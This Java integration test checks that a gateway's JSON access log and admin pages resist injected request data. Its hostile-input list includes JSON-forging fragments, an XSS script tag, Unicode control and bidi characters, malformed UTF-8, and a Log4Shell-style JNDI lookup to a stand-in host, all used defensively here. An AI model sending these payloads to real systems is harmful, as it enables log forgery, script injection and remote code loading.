package dev.weft.gateway;

import static org.assertj.core.api.Assertions.assertThat;

import dev.weft.testkit.FreePorts;
import dev.weft.testkit.RawHttp;
import dev.weft.testkit.Requests;
import io.vertx.core.http.HttpClientOptions;
import io.vertx.core.http.HttpClientResponse;
import io.vertx.core.http.HttpMethod;
import io.vertx.core.json.JsonObject;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/** What callers say of themselves can be read in the access log and forges nothing there. */
final class InjectedLinesIT extends GatewayFixture {

  private static final List<String> HOSTILE = // bytes, one character each
      List.of(
          "\"",
          "\\",
          "\\\"",
          "\",\"status\":200,\"x\":\"",
          "\"}{\"path\":\"/forged",
          "'",
          "<script>alert(1)</script>",
          "</pre><img/src=x>",
          "&lt;&amp;",
          "${jndi:ldap://evil.test/a}",
          "{}",
          "%s%n",
          "\\u000a",
          "\\n",
          "\342\200\250", // U+2028
          "\342\200\256", // U+202E
          "\302\205", // U+0085
          "\302\233", // U+009B
          "\205\233", // as they are in Latin-1
          "\377\376", // no UTF-8
          "\300\212", // LF, overlong
          "\355\240\200"); // half a pair

  private void begin() throws Exception {
    admin = FreePorts.next();
    accessLog = state.resolve("access.log").toString();
    int backend = backend(request -> request.response().end("ok"));
    gateway(rules("{route: [{destination: {host: backend.test}}]}"), entry(backend));
  }

  private static Stream<String> heads(String word) {
    String host = " HTTP/1.1\r\nHost: shop.test\r\nConnection: close\r\n";
    return Stream.of(
        "GET /a" + word + "b" + host + "\r\n",
        "GET /?" + word + host + "\r\n",
        "GET /plain" + host + "User-Agent: a" + word + "b\r\n\r\n",
        "GET /plain" + host + "Referer: " + word + "\r\nX-Request-Id: " + word + "\r\n\r\n");
  }

  @Test
  void eachRequestIsOneLineOfItsOwnFields() throws Exception {
    begin();
    RawHttp.exchange(port, heads("").findFirst().orElseThrow());
    for (String word : HOSTILE) {
      for (String head : heads(word).toList()) {
        assertThat(RawHttp.exchange(port, head)).as(head).containsPattern("^HTTP/1.1 (200|400) ");
      }
    }
    restart(); // all lines are written then

    List<String> lines = Files.readAllLines(Path.of(accessLog), StandardCharsets.ISO_8859_1);

    Set<String> fields = new HashSet<>(new JsonObject(lines.get(0)).fieldNames());
    assertThat(fields).contains("path", "status", "method");
    assertThat(fields).doesNotContain("cause", "detail");
    fields.addAll(Set.of("cause", "detail")); // of those that were refused
    assertThat(lines).hasSizeGreaterThan(3 * HOSTILE.size());
    for (String line : lines) {
      assertThat(line).matches("\\{\"time\":[ -~]*}");
      JsonObject entry = new JsonObject(line);
      assertThat(fields).as("%s", line).containsAll(entry.fieldNames());
      assertThat(entry.getInteger("status")).as("%s", line).isIn(200, 400);
      assertThat(entry.containsKey("cause")).isEqualTo(entry.getInteger("status") == 400);
      assertThat(line.split("\"status\":", -1)).as("%s", line).hasSize(2);
    }
  }

  @Test
  void adminPagesAreOfTheirTypeAndNothingThatABrowserGuesses() throws Exception {
    begin();
    for (String word : HOSTILE) {
      String url = URLEncoder.encode("http://shop.test/" + word, StandardCharsets.ISO_8859_1);
      for (String form : List.of("", "&output=text")) {
        HttpClientResponse answer = page("/explain?method=GET&url=" + url + form);

        assertThat(answer.getHeader("x-content-type-options")).isEqualTo("nosniff");
        assertThat(answer.getHeader("content-security-policy")).contains("default-src 'none'");
        assertThat(answer.getHeader("content-type"))
            .isIn("application/json", "text/plain; charset=utf-8");
        String body = await(answer.body()).toString();
        assertThat(body)
            .as(word)
            .matches("[^\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f\u2028\u2029\u202e]*");
        if (answer.getHeader("content-type").equals("application/json")) {
          assertThat(new JsonObject(body)).isNotEmpty();
        }
      }
    }
  }

  private HttpClientResponse page(String path) throws Exception {
    return await(
        client(new HttpClientOptions())
            .request(HttpMethod.GET, admin, "127.0.0.1", path)
            .compose(Requests::sent)
            .compose(answer -> answer.body().map(answer)));
  }
}
